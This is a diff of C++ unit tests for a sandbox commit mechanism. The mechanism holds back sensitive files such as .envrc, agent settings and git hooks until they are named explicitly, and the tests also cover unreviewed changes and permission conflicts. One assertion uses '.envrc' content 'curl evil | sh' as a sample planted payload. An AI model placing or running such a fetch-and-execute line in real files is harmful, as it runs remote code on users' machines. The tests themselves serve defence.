@@ -101,14 +101,27 @@ TEST_F(CommitTest, HeldFilesComeOnlyByTheirName) {
   report = committed(pod, {.paths = {".envrc"}, .held = {}, .force = {}});
   EXPECT_EQ(results(report), "held .envrc\n");
   EXPECT_FALSE(report.complete());
-  EXPECT_EQ(results(committed(pod, {.paths = {"sub"}, .held = {}, .force = {}})),
-            "held sub/.git/hooks/pre-commit\n");
-  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {"sub"}, .force = {}})), "refused sub\n");
+  report = committed(pod, {.paths = {"sub"}, .held = {}, .force = {}});
+  EXPECT_EQ(results(report), "held sub/.git/hooks/pre-commit\n");
+  EXPECT_FALSE(report.complete());  // asked for, and nothing of it came
   report = committed(pod, {.paths = {}, .held = {".envrc", ".claude/settings.json"}, .force = {}});
   EXPECT_TRUE(report.complete()) << results(report);
   EXPECT_EQ(read(".envrc"), "curl evil | sh\n");
   EXPECT_FALSE(exists(".claude/settings.json"));
   EXPECT_FALSE(exists("run"));
+}
+
+TEST_F(CommitTest, ADirectoryAfterHeldNamesWhatIsHeldBelowIt) {
+  const Pod pod = begin();
+  left(pod, "sub/Makefile", "all:\n");
+  left(pod, "sub/deep/.envrc", "x");
+  left(pod, "sub/plain", "x");
+  left(pod, "substitute/Makefile", "all:\n");
+  auto report = committed(pod, {.paths = {}, .held = {"sub"}, .force = {}});
+  EXPECT_TRUE(report.complete()) << results(report);
+  EXPECT_EQ(results(report), "done sub/Makefile\ndone sub/deep/.envrc\n");
+  EXPECT_FALSE(exists("sub/plain"));  // --held names what is held and no more
+  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {"sub"}, .force = {}})), "refused sub\n");
 }
 
 TEST_F(CommitTest, ALinkOfTheWorkspaceGivesItsNameToWhatItLeadsTo) {
@@ -140,7 +153,8 @@ TEST_F(CommitTest, PathsChooseWholeDirectoriesOrFiles) {
   left(pod, "ab", "1");
   EXPECT_EQ(results(committed(pod, {.paths = {"a"}, .held = {}, .force = {}})), "done a/x\ndone a/y\n");
   const auto report = committed(pod, {.paths = {"nowhere"}, .held = {}, .force = {}});
-  EXPECT_EQ(results(report), "refused nowhere\n");
+  EXPECT_EQ(results(report), "");
+  EXPECT_EQ(report.unknown, std::vector<std::string>{"nowhere"});
   EXPECT_FALSE(report.complete());
   EXPECT_FALSE(exists("ab"));
 }
@@ -181,6 +195,54 @@ TEST_F(CommitTest, WhatChangedSinceItWasShownIsAConflict) {
   const auto report = committed(pod);
   EXPECT_EQ(results(report), "conflict a\nconflict b\ndone c\n");
   EXPECT_EQ(read("a"), "old");
+}
+
+TEST_F(CommitTest, WhatNoReviewHasShownStaysOnceThereWasOne) {
+  const Pod pod = begin();
+  left(pod, "a", "shown");
+  left(pod, "new/b", "shown");
+  ASSERT_TRUE(remember_shown(open(pod), review(pod), {}));
+  left(pod, "late", "nobody has seen this");
+  left(pod, "new/late", "nor this");
+  left(pod, ".envrc", "nor this");
+  auto report = committed(pod);
+  EXPECT_EQ(results(report), "held .envrc\ndone a\nconflict late\ndone new/b\nconflict new/late\n");
+  EXPECT_FALSE(report.complete());
+  EXPECT_FALSE(exists("late"));
+  EXPECT_FALSE(exists("new/late"));
+  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {".envrc"}, .force = {}})), "conflict .envrc\n");
+  ASSERT_TRUE(remember_shown(open(pod), review(pod), {}));
+  EXPECT_EQ(results(committed(pod)), "held .envrc\ndone late\ndone new/late\n");
+}
+
+TEST_F(CommitTest, PermissionsThatTheHostGaveADirectoryMeanwhileStay) {
+  write("closed/x", "1");
+  write("pods/x", "1");
+  ASSERT_EQ(::chmod((workspace_ + "/closed").c_str(), 0755), 0);
+  const Pod pod = begin();
+  left(pod, "closed/x", "2");  // the directory was copied with the permissions of that time
+  ASSERT_EQ(::chmod((pod.upper + "/closed").c_str(), 0755), 0);
+  left(pod, "pods/x", "2");
+  ASSERT_EQ(::chmod((pod.upper + "/pods").c_str(), 0700), 0);
+  ASSERT_EQ(::chmod((workspace_ + "/closed").c_str(), 0700), 0);
+  const auto report = committed(pod);
+  EXPECT_EQ(results(report), "conflict closed\ndone closed/x\ndone pods\ndone pods/x\n");
+  EXPECT_EQ(mode("closed"), 0700u);
+  EXPECT_EQ(mode("pods"), 0700u);
+}
+
+TEST_F(CommitTest, ADirectoryThatTheHostMadeWhereThePodMadeAFileIsAConflict) {
+  const Pod pod = begin();
+  left(pod, "x", "file");
+  ASSERT_EQ(::mkdir((workspace_ + "/x").c_str(), 0755), 0);
+  EXPECT_EQ(results(committed(pod)), "conflict x\n");
+  EXPECT_TRUE(std::filesystem::is_directory(workspace_ + "/x"));
+}
+
+TEST_F(CommitTest, ALinkToItselfLeadsNowhere) {
+  const Pod pod = begin();
+  ASSERT_EQ(::symlink("loop", (pod.upper + "/loop").c_str()), 0);
+  EXPECT_EQ(results(committed(pod)), "done loop\n");
 }
 
 TEST_F(CommitTest, DirectoriesGoOnlyWithAllThatIsInThem) {
